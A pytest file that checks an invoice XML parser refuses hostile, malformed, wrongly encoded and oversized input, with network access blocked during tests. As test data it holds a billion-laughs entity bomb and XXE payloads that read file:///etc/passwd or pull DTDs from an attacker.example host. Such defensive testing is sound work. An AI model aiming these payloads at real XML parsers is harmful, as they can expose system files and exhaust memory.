"""Hostile and broken bytes: every one is refused with its own code, quickly, without network.

With ``forbid_dtd=True`` defusedxml stops at the DOCTYPE, before expat reads any entity
declaration in it, so every DTD-borne attack (billion laughs, XXE, external DTD, parameter
entities) is ``xml_dtd_forbidden``. The entity and external-reference codes are kept for the
day the DTD check is relaxed; a test below drives them through a stand-in parser.
"""

from __future__ import annotations

import socket
import time
from types import SimpleNamespace
from typing import Any

import pytest
from defusedxml import (  # type: ignore[import-untyped]
    DTDForbidden,
    EntitiesForbidden,
    ExternalReferenceForbidden,
)

from ledger.formats import ubl_xml as ubl_xml_module
from ledger.formats.ubl import MAX_BYTES, UblRejected, ubl_parse
from tests.ledger.formats.test_ubl import ubl

# CPU seconds of this process (not wall-clock, which a busy shared machine stretches); each parse
# takes a fraction of that, and a quadratic walk over a megabyte of elements would take minutes.
QUICK_SECONDS = 2.0


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to resolve or connect fails the test instead of reaching out."""

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def refused(document: bytes, **kwargs: Any) -> UblRejected:
    started = time.process_time()
    with pytest.raises(UblRejected) as caught:
        ubl_parse(document, **kwargs)
    assert time.process_time() - started < QUICK_SECONDS
    return caught.value


BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Invoice [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol9;</Invoice>
"""


def with_doctype(doctype: str, text: str = "&xxe;") -> bytes:
    """A real UBL invoice with a DOCTYPE in front and ``text`` as its invoice number."""
    document = ubl().replace(b"<cbc:ID>INV-1</cbc:ID>", f"<cbc:ID>{text}</cbc:ID>".encode())
    declaration, _, rest = document.partition(b"\n")
    return declaration + b"\n" + doctype.encode() + b"\n" + rest


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(
            with_doctype('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
            id="external-entity-file",
        ),
        pytest.param(
            with_doctype('<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'),
            id="external-entity-http",
        ),
        pytest.param(
            with_doctype(
                '<!DOCTYPE Invoice PUBLIC "-//A//B" "http://attacker.example/ubl.dtd">', "INV-1"
            ),
            id="external-dtd",
        ),
        pytest.param(
            with_doctype('<!DOCTYPE Invoice SYSTEM "file:///etc/passwd">', "INV-1"),
            id="external-dtd-file",
        ),
        pytest.param(
            with_doctype(
                '<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd">'
                " %remote;]>"
            ),
            id="parameter-entity-external",
        ),
        pytest.param(
            with_doctype(
                "<!DOCTYPE Invoice [<!ENTITY % p \"<!ENTITY xxe 'inner'>\"> %p;]>",
            ),
            id="parameter-entity-internal",
        ),
        pytest.param(with_doctype("<!DOCTYPE Invoice>", "INV-1"), id="empty-doctype"),
        pytest.param(
            with_doctype('<!DOCTYPE Invoice [<!ENTITY xxe "harmless">]>'), id="internal-entity"
        ),
    ],
)
def test_dtd_attacks(document: bytes) -> None:
    error = refused(document)
    assert (error.code, error.pointer) == ("xml_dtd_forbidden", "/")
    assert "passwd" not in error.message and "attacker" not in error.message


@pytest.mark.parametrize(
    ("exception", "code"),
    [
        (DTDForbidden("Invoice", None, None), "xml_dtd_forbidden"),
        (EntitiesForbidden("xxe", None, None, None, None, None), "xml_entities_forbidden"),
        (
            ExternalReferenceForbidden(None, None, "http://attacker.example/x", None),
            "xml_external_reference_forbidden",
        ),
    ],
)
def test_each_defusedxml_refusal_has_its_code(
    monkeypatch: pytest.MonkeyPatch, exception: Exception, code: str
) -> None:
    calls: list[dict[str, Any]] = []

    def fromstring(text: bytes, **kwargs: Any) -> Any:
        calls.append(kwargs)
        raise exception

    monkeypatch.setattr(ubl_xml_module, "safe_et", SimpleNamespace(fromstring=fromstring))
    assert refused(ubl()).code == code
    assert calls == [{"forbid_dtd": True, "forbid_entities": True, "forbid_external": True}]


def test_undeclared_entity_without_a_dtd_is_malformed() -> None:
    assert refused(ubl().replace(b"INV-1", b"&xxe;")).code == "xml_malformed"


# Size


def test_size_is_checked_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    def fromstring(text: bytes, **kwargs: Any) -> Any:
        raise AssertionError("parsed a document over the size limit")

    monkeypatch.setattr(ubl_xml_module, "safe_et", SimpleNamespace(fromstring=fromstring))
    oversized = BILLION_LAUGHS + b" " * MAX_BYTES
    error = refused(oversized)
    assert (error.code, error.pointer) == ("xml_too_large", "/")
    assert str(MAX_BYTES) in error.message


def test_size_limit_boundary() -> None:
    document = ubl()
    assert ubl_parse(document, max_bytes=len(document)).event["ref"] == "INV-1"
    assert refused(document, max_bytes=len(document) - 1).code == "xml_too_large"


def test_oversized_junk_is_too_large_not_malformed() -> None:
    assert refused(b"\xff" * (MAX_BYTES + 1)).code == "xml_too_large"


# Malformed XML


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"   ",
        b"not xml at all",
        b"<Invoice",
        b"<?xml version='1.0'?>",
        ubl()[:-30],  # truncated
        ubl().replace(b"</cbc:IssueDate>", b"</cbc:IssueDat>"),
        ubl() + b"<Invoice/>",  # two roots
        ubl().replace(b"INV-1", b"INV\x01"),  # a C0 control is not an XML 1.0 character
        ubl().replace(b"INV-1", b"INV &#1;"),
        ubl().replace(b"xmlns:cbc=", b"xmlns:cbx="),  # unbound prefix
    ],
)
def test_malformed(document: bytes) -> None:
    error = refused(document)
    assert (error.code, error.pointer) == ("xml_malformed", "/")


# Encodings: Peppol BIS 3 documents are UTF-8


def test_latin1_bytes_declared_latin1() -> None:
    document = ubl().replace(b"UTF-8", b"ISO-8859-1").replace(b"Buyer GmbH", b"K\xe4ufer GmbH")
    error = refused(document)
    assert (error.code, error.pointer) == ("xml_encoding_unsupported", "/")
    assert "ISO-8859-1" in error.message


def test_latin1_bytes_declared_utf8() -> None:
    assert refused(ubl().replace(b"Buyer GmbH", b"K\xe4ufer GmbH")).code == "xml_not_utf8"


def test_utf8_bytes_declaring_another_encoding() -> None:
    assert refused(ubl().replace(b"UTF-8", b"windows-1252")).code == "xml_encoding_unsupported"


def test_unknown_declared_encoding_does_not_crash() -> None:
    assert refused(ubl().replace(b"UTF-8", b"klingon")).code == "xml_encoding_unsupported"


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-32"])
def test_utf16_and_utf32(codec: str) -> None:
    document = ubl().decode().replace("UTF-8", codec.upper()).encode(codec)
    assert refused(document).code == "xml_not_utf8"


@pytest.mark.parametrize(
    "document",
    [
        b"\xff\xfe\xfd\xfc" * 64,
        bytes(range(256)),
        b"\xc3\x28",  # an invalid two-byte sequence
        b"\xed\xa0\x80",  # an encoded surrogate
        b"<?xml version='1.0'?>\n<a>\xe9</a>",
    ],
)
def test_non_utf8_junk(document: bytes) -> None:
    assert refused(document).code == "xml_not_utf8"


def test_utf8_byte_order_mark_is_fine() -> None:
    assert ubl_parse(b"\xef\xbb\xbf" + ubl()).event["ref"] == "INV-1"


def test_unicode_content_survives() -> None:
    document = ubl().replace(
        b"Buyer GmbH", "Käufer & Söhne 株式会社".encode().replace(b"&", b"&amp;")
    )
    assert ubl_parse(document).event["data"]["debtor"]["name"] == "Käufer & Söhne 株式会社"


# Volume just under the cap: must stay quick (no quadratic walk over elements)


def padded(document: bytes, filler: bytes, before: bytes) -> bytes:
    """Repeat ``filler`` just in front of ``before`` until the document is just under 1 MiB."""
    room = MAX_BYTES - len(document)
    copies = room // len(filler)
    result = document.replace(before, filler * copies + before, 1)
    assert MAX_BYTES - len(filler) < len(result) <= MAX_BYTES
    return result


def quick_parse(document: bytes) -> Any:
    started = time.process_time()
    parsed = ubl_parse(document)
    assert time.process_time() - started < QUICK_SECONDS
    return parsed


def test_many_lines_under_the_cap() -> None:
    line = b"<cac:InvoiceLine><cbc:ID>1</cbc:ID></cac:InvoiceLine>"
    parsed = quick_parse(padded(ubl(), line, b"</Invoice>"))
    assert parsed.event["data"]["amount"] == "1000.00"


def test_many_tiny_elements_under_the_cap() -> None:
    parsed = quick_parse(padded(ubl(), b"<a/>", b"</Invoice>"))
    assert parsed.event["ref"] == "INV-1"


def test_many_supplier_identifiers_under_the_cap() -> None:
    identification = b"<cac:PartyIdentification><cbc:ID>1</cbc:ID></cac:PartyIdentification>"
    parsed = quick_parse(padded(ubl(), identification, b"<cac:PartyName><cbc:Name>Acme"))
    assert "1" in parsed.supplier_ids


def test_many_payment_means_under_the_cap() -> None:
    means = (
        b"<cac:PaymentMeans><cbc:PaymentDueDate>2026-04-15</cbc:PaymentDueDate></cac:PaymentMeans>"
    )
    document = padded(ubl(due_date=None), means, b"</Invoice>")
    assert quick_parse(document).event["data"]["due_date"] == "2026-04-15"


def test_many_notes_under_the_cap() -> None:
    note = b"<cbc:Note>returned goods</cbc:Note>"
    parsed = quick_parse(padded(ubl("CreditNote"), note, b"</CreditNote>"))
    assert len(parsed.event["data"]["reason"]) == 500


def test_many_billing_references_under_the_cap() -> None:
    reference = (
        b"<cac:BillingReference><cac:InvoiceDocumentReference><cbc:ID>INV-1</cbc:ID>"
        b"</cac:InvoiceDocumentReference></cac:BillingReference>"
    )
    parsed = quick_parse(padded(ubl("CreditNote"), reference, b"</CreditNote>"))
    assert parsed.event["data"]["invoice_ref"] == "INV-1"


def test_many_attributes_and_namespaces_under_the_cap() -> None:
    attributes = b"".join(b' xmlns:n%d="urn:x:%d" n%d:a="1"' % (i, i, i) for i in range(20_000))
    document = ubl().replace(b"<cbc:ID>", b"<cbc:ID" + attributes + b">", 1)
    assert len(document) <= MAX_BYTES
    assert quick_parse(document).event["ref"] == "INV-1"


def test_deep_nesting_under_the_cap() -> None:
    depth = (MAX_BYTES - len(ubl()) - 100) // len(b"<a></a>")
    nested = b"<a>" * depth + b"</a>" * depth
    parsed = quick_parse(ubl().replace(b"</Invoice>", nested + b"</Invoice>"))
    assert parsed.event["ref"] == "INV-1"


def test_huge_text_under_the_cap() -> None:
    name = b"B" * (MAX_BYTES - len(ubl()))
    error = refused(ubl().replace(b"Buyer GmbH", name))
    assert error.code == "ubl_invalid_content"  # the event schema caps names at 200 characters
    assert len(error.message) < 200
